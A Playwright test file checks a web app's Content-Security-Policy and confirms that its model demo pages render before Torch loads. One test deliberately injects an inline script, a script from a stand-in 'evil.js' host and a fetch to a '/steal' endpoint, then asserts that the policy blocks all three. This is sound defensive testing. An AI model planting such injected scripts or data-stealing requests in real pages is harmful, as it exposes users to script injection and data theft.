"""What only a browser can tell: the policy holds, and no page waits for Torch."""

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.bench import served_app

PAGES = {
    "/gmm": "em-player",
    "/hmm": "trellis",
    "/naive-bayes": "message-editor",
    "/vae": "latent-pad",
}


@pytest.mark.parametrize("path", ["/", *PAGES])
def test_the_policy_is_never_broken(open_page: Callable[..., Page], path: str) -> None:
    """The Content-Security-Policy blocks nothing that our pages do."""
    page = open_page("/_stcore/health")
    broken: list[str] = []
    page.on(
        "console",
        lambda message: (
            broken.append(message.text) if "Content Security Policy" in message.text else None
        ),
    )
    page.goto(page.url.removesuffix("/_stcore/health") + path)
    if path in PAGES:
        page.locator(f'[data-widget="{PAGES[path]}"][data-ready="true"]').first.wait_for()
    else:
        expect(page.locator("h1").first).to_be_visible()
    assert not broken


def test_a_script_from_elsewhere_is_blocked(open_page: Callable[..., Page]) -> None:
    """The policy is there and bites: neither inline code nor another host's gets in."""
    page = open_page("/gmm")
    page.locator('[data-widget="em-player"][data-ready="true"]').wait_for()
    blocked = page.evaluate(
        """() => new Promise((resolve) => {
            const seen = [];
            document.addEventListener("securitypolicyviolation", (event) => {
                seen.push(event.effectiveDirective);
                if (seen.length === 3) resolve(seen);
            });
            const inline = document.createElement("script");
            inline.textContent = "window.pwned = true";
            document.head.append(inline);
            const foreign = document.createElement("script");
            foreign.src = "http://127.0.0.1:9/evil.js";
            document.head.append(foreign);
            fetch("http://127.0.0.1:9/steal").catch(() => {});
        })"""
    )
    assert sorted(blocked) == ["connect-src", "script-src-elem", "script-src-elem"]
    assert page.evaluate("window.pwned") is None


@pytest.mark.skipif(not Path("/proc/self/maps").exists(), reason="needs /proc")
@pytest.mark.parametrize("path", PAGES)
def test_the_first_paint_does_not_wait_for_torch(browser: Browser, path: str) -> None:
    """Real content on a server that has not loaded Torch, with the live channel silent."""
    with served_app(warm=False, environment={"GENMODELS_WARM_UP": "0"}) as app:
        context = browser.new_context()
        try:
            page = context.new_page()
            page.route_web_socket("**/live/**", lambda socket: None)
            page.goto(app.url + path)
            page.locator(f'[data-widget="{PAGES[path]}"][data-ready="true"]').wait_for()
            maps = Path(f"/proc/{app.process.pid}/maps").read_text(encoding="utf-8")
            assert "libtorch" not in maps
        finally:
            context.close()
